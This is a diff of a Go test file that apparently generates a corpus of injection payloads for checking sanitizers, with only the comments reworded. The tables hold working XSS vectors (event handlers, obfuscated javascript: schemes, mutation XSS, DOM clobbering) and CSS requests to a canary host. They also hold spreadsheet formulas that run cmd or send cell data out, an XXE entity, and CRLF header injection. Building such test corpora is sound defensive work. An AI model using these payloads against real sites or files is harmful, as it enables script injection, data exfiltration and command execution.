@@ -8,20 +8,20 @@ import (
 	"strings"
 )
 
-// Payload is a text that calls Canary, or asks CanaryHost for something, wherever it is
-// taken for more than text. All are made here of the tables below; none is anybody's list.
+// Payload is a text that calls Canary or sends a request to CanaryHost if it is interpreted as
+// code or markup. All payloads come from the tables below; no third-party list is included.
 type Payload struct {
 	Kind string `json:"kind"`
 	Text string `json:"text"`
 }
 
-// What a payload does when it runs: one of the two is in every one of them.
+// Every payload contains one of these.
 const (
 	Canary     = "__x()"
 	CanaryHost = "canary.test"
 )
 
-// Scripts are all payloads, those that work in the plainest of holes first.
+// Scripts returns all payloads, the simplest attacks first.
 func Scripts() (all []Payload) {
 	for _, family := range []struct {
 		kind  string
@@ -56,7 +56,7 @@ func Scripts() (all []Payload) {
 	return all
 }
 
-// In the tables § stands for the call and ¤ for the host.
+// In the tables § stands for Canary and ¤ for CanaryHost.
 var plainScripts = []string{
 	`<script>§</script>`, `<img src=x onerror=§>`, `<svg/onload=§>`, `<SCRIPT SRC=https://¤/x.js></SCRIPT>`, `<scr<script>ipt>§</scr</script>ipt>`,
 	"<script\n>§</script\n>", `<script/x>§</script/x>`, `<script type=module>§</script>`, `<script type=text/javascript>§</script>`,
@@ -73,7 +73,7 @@ var plainScripts = []string{
 	`<script>§`,
 }
 
-// everyHandler is what a browser may call an attribute that runs.
+// everyHandler lists the event handler attributes of browsers.
 var everyHandler = strings.Fields(`onabort onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick
 	onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforescriptexecute onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel
 	oncanplay oncanplaythrough onchange onclick onclose oncommand oncontentvisibilityautostatechange oncontextlost oncontextmenu oncontextrestored oncopy oncuechange oncut
@@ -86,7 +86,7 @@ var everyHandler = strings.Fields(`onabort onafterprint onafterscriptexecute ona
 	onselectstart onshow onslotchange onstalled onstart onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart
 	ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange onwaiting onwebkitanimationend onwheel onzoom`)
 
-// Those that articles may have come first.
+// everyElement lists HTML elements; those allowed in articles come first.
 var everyElement = []string{
 	"p", "br", "h2", "h3", "ul", "ol", "li", "blockquote", "strong", "em", "u", "s", "code", "pre", "hr", "figure", "figcaption", "a href=#", "img src=x",
 	"abbr", "address", "applet code=x", "area href=#", "article", "aside", "b", "base href=/", "basefont", "bdi", "bdo", "bgsound src=x", "big", "button autofocus", "canvas", "center",
@@ -110,8 +110,7 @@ func handlers() (all []string) {
 	return all
 }
 
-// attributes end an attribute's name, its value or its tag where a reader of regular
-// expressions does not.
+// attributes end an attribute or tag in ways that filters based on regular expressions miss.
 func attributes() []string {
 	all := []string{
 		"<img src=x onerror\n=\n§>", `<img/src=x/onerror=§>`, `<img src="x"onerror="§">`, `<img src=x: onerror=§//`, `<img """><script>§</script>">`,
@@ -141,8 +140,8 @@ func attributes() []string {
 	return all
 }
 
-// Schemes in all their spellings: what browsers take out of an address before they
-// read it, filters take for letters.
+// schemes are spellings of dangerous schemes. Browsers remove some characters before parsing a
+// URL, while filters treat them as part of the scheme.
 var schemes = []string{
 	"javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\rscript:", "j\na\tv\ra\nscript:", "\tjavascript:", "\njavascript:", " javascript:", "javascript\t:", "javascript\n:", "javascript :",
 	"&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "&#x006A;&#x0061;vascript:", "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "javascript&#58", "java&Tab;script:", "java&NewLine;script:",
@@ -169,8 +168,8 @@ func schemed() (all []string) {
 		`/\/¤/?§`, `//¤/?§`, `https://wa.me/919825012345?text=<script>§</script>`, `https://youtu.be/"><script>§</script>`, `https://www.youtube.com/watch?v=x"onload="§`, `https://www.youtube.com/embed/x'><script>§</script>`)
 }
 
-// mutations read differently the second time: text that ends inside an attribute of what
-// looked like a tag, in each of the elements whose content is text, in each namespace.
+// mutations are parsed differently after being serialised (mutation XSS): raw text that ends
+// inside an attribute, for each raw-text element and each namespace.
 func mutations() (all []string) {
 	texts := []string{"style", "xmp", "iframe", "noembed", "noframes", "noscript", "textarea", "title", "script", "template", "select", "plaintext", "listing", "option"}
 	around := []string{"%s", "<svg>%s", "<math>%s", "<math><mtext>%s", "<svg><desc>%s", "<svg><foreignObject>%s", "<math><annotation-xml encoding=text/html>%s", "<table><tr><td>%s", "<table>%s", "<form><math><mtext></form><form><mglyph>%s", "<select>%s", "<p><b><i><u>%s", "<svg></p>%s", "<ul><li>%s", "<math><mi><table><mglyph>%s"}
@@ -211,7 +210,7 @@ var mathML = []string{
 	`<math><mstyle style="position:fixed;inset:0" onclick=§>c</mstyle></math>`, `<math><script>§</script></math>`, `<math><semantics><mi>x</mi><annotation-xml encoding="SVG1.1"><svg><script>§</script></svg></annotation-xml></semantics></math>`, `<math><mphantom><img src=x onerror=§></mphantom></math>`, `<math></p><script>§</script>`, `<math><br><script>§</script>`,
 }
 
-// clobbering gives elements the names of what scripts look for.
+// clobbering gives elements the names of properties that scripts use (DOM clobbering).
 func clobbering() (all []string) {
 	names := strings.Fields(`root boot prose __early __x body head documentElement cookie getElementById querySelector forms location defaultView currentScript dataset
 		localStorage sessionStorage constructor __proto__ prototype toString valueOf hasOwnProperty children childNodes firstChild attributes innerHTML textContent
@@ -239,7 +238,7 @@ var styles = []string{
 	`<p style="width:expression(§)">x`, `<p style="b\61ckground:url(https://¤/esc)">x`, `<p style="background:u\72l(https://¤/esc2)">x`, `<p style="x:url(https://¤/x" onclick=§>x`, `<p style='background:url("https://¤/q")'>x`, `<div style="content:'</style><script>§</script>'">x`, `<p style="--x:</style><script>§</script>">x`, `red;background:url(https://¤/colour)`, `#fff}*{background:url(https://¤/brace)}`, `#000;}</style><script>§</script>`, `url(javascript:§)`, `url("https://¤/u")`, `image-set("https://¤/set" 1x)`, `expression(§)`, `\27;background:url(https://¤/quote);`, `*/}*{background:url(https://¤/c)}/*`, `;@import "https://¤/semi";`, `{}@import url(//¤/at);`,
 }
 
-// encoded are the plainest payloads in each spelling that something may undo.
+// encoded are simple payloads in every encoding that some parser may decode.
 func encoded() (all []string) {
 	each := func(form string) func(string) string {
 		return func(text string) string {
@@ -268,7 +267,7 @@ func encoded() (all []string) {
 	return all
 }
 
-// breakouts end what they are in, each way a page puts a text somewhere.
+// breakouts end the surrounding construct, for every place in which a page inserts text.
 func breakouts() (all []string) {
 	ends := []string{
 		`">`, `'>`, "`>", `>`, `"/>`, `'/>`, `" `, `' `, `</script>`, `</SCRIPT >`, `</script/x>`, `</style>`, `</title>`, `</textarea>`, `</noscript>`, `</template>`, `</iframe>`, `</xmp>`, `</select>`, `</svg>`, `</math>`, `</a></p></div></div>`, `-->`, `--!>`, `]]>`, `?>`, `%>`, `*/`, `';`, `";`, `'};`, `"}];`, `\";`, `\';`, `\`, `"+`, `'-`, "`${", "\u2028", "\u2029", "\n", "\r\n\r\n", "\x00", `&quot;>`, `&#34;>`, `&apos;>`, `%22%3E`, `\x22>`, `\u0022>`, `}}`, `))`, `;)`,
@@ -315,7 +314,7 @@ var cards = []string{
 	"upi://pay?pa=v@¤&am=1", "otpauth://totp/§?secret=A&issuer=¤", "User-agent: *\nDisallow: §", "Sitemap: https://¤/sitemap.xml", "]]></title><link href=\"https://¤/\"/>", "</url><url><loc>https://¤/</loc></url>", "</entry><entry><content type=\"html\">&lt;script&gt;§&lt;/script&gt;</content></entry>", "<content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\"><script>§</script></div></content>", "<x xmlns=\"http://www.w3.org/1999/xhtml\"><script>§</script></x>", "<xsl:value-of select=\"document('https://¤/')\"/>", "<!ENTITY % x SYSTEM \"https://¤/x\"> %x;", "\",\"start_url\":\"https://¤/", "\"}],\"icons\":[{\"src\":\"https://¤/i.png\"}],\"x\":[{\"y\":\"",
 }
 
-// cells are taken for formulas by programs that open tables.
+// cells are interpreted as formulas by spreadsheets.
 func cells() (all []string) {
 	for _, begin := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", `"=`, ";=", ",=", "|=", "\u200b=", "\ufeff="} {
 		all = append(all, begin+`HYPERLINK("https://¤/","§")`, begin+`cmd|'/C §'!A0`)
@@ -323,7 +322,7 @@ func cells() (all []string) {
 	return append(all, `=WEBSERVICE("https://¤/"&A1)`, `=IMPORTXML("https://¤/","//a")`, `=IMAGE("https://¤/i.png")`, `x";=HYPERLINK("https://¤/s")`, "x\"\r\n=HYPERLINK(\"https://¤/r\")", `=DDE("cmd";"/C §";"1")`, `{=HYPERLINK("https://¤/a")}`, `%0A=HYPERLINK("https://¤/p")`, `sep=;=HYPERLINK("https://¤/sep")`)
 }
 
-// headers end a line of HTTP, of a log or of a stream of events.
+// headers break out of a line of HTTP, of a log or of an event stream.
 func headers() (all []string) {
 	for i, line := range []string{"\r\n", "\n", "\r", "%0d%0a", "%0a", "%0d", `\r\n`, "\u560d\u560a", "%E5%98%8D%E5%98%8A", "\u2028", "\x0b", "\x1b[2J\n", "\u0085", "%00%0a"} {
 		all = append(all, "x"+line+"Set-Cookie: x=§", "x"+line+line+"<script>§</script>", []string{"x" + line + "Location: https://¤/", "x" + line + "data: {\"x\":\"§\"}", "x" + line + "Content-Type: text/html" + line + line + "§"}[i%3])
